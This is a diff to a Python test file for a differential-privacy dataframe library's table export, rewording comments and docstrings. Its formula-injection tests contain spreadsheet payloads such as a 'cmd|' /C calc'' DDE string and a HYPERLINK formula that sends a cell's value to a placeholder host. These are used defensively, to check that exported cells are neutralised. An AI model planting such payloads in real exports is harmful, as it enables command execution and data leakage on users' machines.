@@ -1,4 +1,4 @@
-"""Tables of results: numbers rounded to their errors, in every format, in other languages, with names that bite."""
+"""Tables of results: numbers rounded to their errors, in every format and language, with hostile names."""
 
 from __future__ import annotations
 
@@ -44,7 +44,7 @@ def ages():
 
 
 def cells(result, **options):
-    """The header and the rows of the CSV."""
+    """Return the header and the rows of the CSV."""
     lines = [line for line in result.dp.table("csv", **options).splitlines() if not line.startswith("#")]
     head, *rows = csv.reader(lines)
     return head, rows
@@ -104,7 +104,7 @@ def test_dates_missing_keys_and_whole_keys():
         years = frame.dp.group_by("year", "kind", keys={"year": [2026], "kind": [None]}).count(epsilon=1)
     assert cells(months)[1][0][0] == "2026-01-01"
     assert cells(years)[1][0][:2] == ["2026", "missing"]
-    assert "| 2026 | missing |" in years.dp.table("markdown")  # no mark of thousands in a year
+    assert "| 2026 | missing |" in years.dp.table("markdown")  # no thousands separator in a year
 
 
 def test_labels(wards):
@@ -122,7 +122,7 @@ def test_languages(wards):
     cost = f"{round(wards['cost'][0], -4):,.0f}"
     assert cost in plain
     assert cost.replace(",", ".") in german
-    assert cells(wards, locale="de") == cells(wards)  # numbers of files are numbers
+    assert cells(wards, locale="de") == cells(wards)  # numbers in CSV files do not depend on the language
     for locale, error in (("xx_yy", dpf.InvalidArgument), (7, dpf.InvalidType)):
         with pytest.raises(error, match="locale must be"):
             wards.dp.table("markdown", locale=locale)
@@ -152,7 +152,7 @@ def test_110_a_spreadsheet_computes_nothing(wards):
 
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff20"])
 def test_179_no_part_of_a_line_becomes_a_formula(sign):
-    """A spreadsheet cuts a line at commas or, in much of Europe, at semicolons, and passes over blanks."""
+    """A spreadsheet splits a line at commas or, in much of Europe, at semicolons, and ignores blanks."""
     formula = f"{sign}1+1"
     column, keys = f"a,{formula}", [f" {formula}", f"x;{formula}", f"\u00a0{formula}"]
     hostile = pl.DataFrame({column: keys * 3})
@@ -171,7 +171,7 @@ def test_179_no_part_of_a_line_becomes_a_formula(sign):
     "label", ["a;+1,5+cmd|' /C calc'!A0;b", 'a;-1,0*HYPERLINK("http://x/"&A1);b', "a;+1)+cmd|' /C calc'!A0"]
 )
 def test_179_a_number_that_goes_on_at_its_comma_is_no_number(label):
-    """Where lines are cut at semicolons a comma is in a number, and what follows it is in the same cell."""
+    """Where semicolons separate cells, a comma is a decimal sign, and the text after it stays in the same cell."""
     assert no_formula(label) == no_formulas(label) == label.replace(";", ";'", 1)
     for number in ("a;+1,5;b", "a;-1.5", "[1;-2]", "(0;-1,5)"):
         assert no_formula(number) == no_formulas(number) == number
@@ -272,7 +272,7 @@ def test_a_two_way_table_of_sorted_rows_is_that_of_the_released_frame(tmp_path):
     keys = {"ward": ["A", "B", "C"], "sex": ["f", "m"]}
     with dpf.Ledger(epsilon=9):
         found = frame.dp.group_by("ward", "sex", keys=keys).count(cube=True, epsilon=9)
-    moved = found.iloc[::-1]  # which keeps the record
+    moved = found.iloc[::-1]  # this keeps the record
     assert moved.dp.table("markdown") == found.dp.table("markdown")
     assert table_of_page(moved, tmp_path) == table_of_page(found, tmp_path)
 
